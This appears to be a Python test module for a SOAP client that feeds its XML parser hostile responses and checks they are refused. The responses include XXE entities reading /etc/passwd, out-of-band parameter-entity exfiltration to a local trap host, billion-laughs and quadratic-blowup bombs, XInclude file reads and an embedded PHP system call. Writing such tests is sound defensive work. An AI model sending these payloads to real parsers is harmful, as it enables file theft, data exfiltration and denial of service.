"""XML: document types, entities, and pointers to elsewhere."""

from __future__ import annotations

from collections.abc import Iterator

from kit_desktop.core.outcome import Outcome, Reason

from ..replies import FIELDS, XML_HEAD, elements, envelope, replaced, reply_with, response
from .case import NOT_UNDERSTOOD, Case, Seen, case
from .replies import BARE, REPLY, answer

TRAP = "http://127.0.0.1:TRAPP"


SECRET_FILE = "file:///etc/passwd"


def _entities() -> Iterator[Case]:
    def with_dtd(name: str, subset: str, content: str = "&x;", external: str = "", **options: object) -> Case:
        doctype = f"<!DOCTYPE Envelope{external}{f' [{subset}]' if subset else ''}>"
        body = f'<?xml version="1.0"?>{doctype}' + replaced(senderId=f"<ns1:senderId>{content}</ns1:senderId>").removeprefix(
            XML_HEAD
        )
        return case(f"DTD: {name}", NOT_UNDERSTOOD, answer(body), reason=Reason.DTD, check=_no_secret, requests=1, **options)

    yield with_dtd("bare", "", "a")
    yield with_dtd("internal entity", '<!ENTITY x "delivered">')
    yield with_dtd("a file", f'<!ENTITY x SYSTEM "{SECRET_FILE}">')
    yield with_dtd("a pipe", '<!ENTITY x SYSTEM "file:///dev/stdin">')
    yield with_dtd("http", f'<!ENTITY x SYSTEM "{TRAP}/x">')
    yield with_dtd("https", '<!ENTITY x SYSTEM "https://127.0.0.1:TRAPP/x">')
    yield with_dtd("ftp", '<!ENTITY x SYSTEM "ftp://127.0.0.1:TRAPP/x">')
    yield with_dtd("PHP's filter", '<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">')
    yield with_dtd("a public name", f'<!ENTITY x PUBLIC "-//A//B" "{TRAP}/x">')
    yield with_dtd("parameter entity", f'<!ENTITY % p SYSTEM "{TRAP}/p.dtd"> %p;')
    steal = f'<!ENTITY % f SYSTEM "{SECRET_FILE}"><!ENTITY % s SYSTEM "{TRAP}/s.dtd">%s;'
    yield with_dtd("parameter entities that carry a file away", steal)
    yield with_dtd("external", "", "a", f' SYSTEM "{TRAP}/soap.dtd"')
    yield with_dtd("external, by file", "", "a", f' SYSTEM "{SECRET_FILE}"')
    yield with_dtd("external, public", "", "a", f' PUBLIC "-//W3C//DTD" "{TRAP}/soap.dtd"')
    yield with_dtd("a default attribute", '<!ATTLIST Envelope a CDATA "x">', "a")
    yield with_dtd("a notation", f'<!NOTATION n SYSTEM "{TRAP}/n"><!ENTITY x SYSTEM "{TRAP}/u" NDATA n>', "a")
    yield with_dtd("an element that refers to itself", '<!ENTITY x "&x;">')
    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    yield with_dtd("billion laughs", laughs, "&j;", heavy=True)
    yield with_dtd("quadratic blow-up", f'<!ENTITY x "{"a" * 100_000}">', "&x;" * 10_000, heavy=True)
    yield with_dtd(
        "parameter laughs", '<!ENTITY % a "ha">' + "".join(f"<!ENTITY % b{n} '&#37;a;&#37;a;'>" for n in range(100)), "a"
    )
    late = BARE.replace("<SOAP-ENV:Body>", "<!DOCTYPE x><SOAP-ENV:Body>")
    yield case("a doctype inside the envelope", NOT_UNDERSTOOD, answer(late))
    yield case("a doctype behind the envelope", NOT_UNDERSTOOD, answer(BARE + "<!DOCTYPE x>"))
    sixteen = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY x "y">]>' + BARE).encode("utf-16")
    yield case("a doctype in UTF-16", NOT_UNDERSTOOD, answer(sixteen), reason=Reason.DTD)
    yield case("a doctype in lower case", NOT_UNDERSTOOD, answer("<!doctype x>" + BARE))


def _no_secret(seen: Seen) -> str | None:
    return "a file was read" if any("root:" in text for text in seen.texts) else None


def _pointers() -> Iterator[Case]:
    sheet = f'<?xml-stylesheet href="{TRAP}/a.xsl" type="text/xsl"?>'
    yield case("a style sheet", Outcome.OK, answer(XML_HEAD + sheet + BARE), requests=1)
    yield case("a processing instruction at the end", Outcome.OK, answer(REPLY + "<?php system('id') ?>"))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{SECRET_FILE}" parse="text"/>'
    yield case("XInclude beside the fields", Outcome.OK, answer(reply_with(elements(FIELDS) + include)), check=_no_secret)
    inside = replaced(senderId=f"<ns1:senderId>{include}</ns1:senderId>")
    yield case("XInclude inside a field", NOT_UNDERSTOOD, answer(inside), check=_no_secret, reason=Reason.BAD_FIELD)
    instead = envelope(response(include.replace("parse", 'xpointer="x" parse').replace(SECRET_FILE, TRAP)))
    yield case("XInclude instead of the Result", NOT_UNDERSTOOD, answer(instead))
    for attribute in (
        f'xsi:schemaLocation="http://tempuri.org/ {TRAP}/a.xsd"',
        f'xsi:noNamespaceSchemaLocation="{TRAP}/a.xsd"',
        f'xml:base="{TRAP}/"',
        'xml:lang="kk"',
        'xml:space="preserve"',
        'xml:id="a"',
    ):
        body = REPLY.replace("<ns1:Result>", f"<ns1:Result {attribute}>")
        yield case(f"an attribute {attribute.partition('=')[0]}", Outcome.OK, answer(body))


CASES = (
    *_entities(),
    *_pointers(),
)
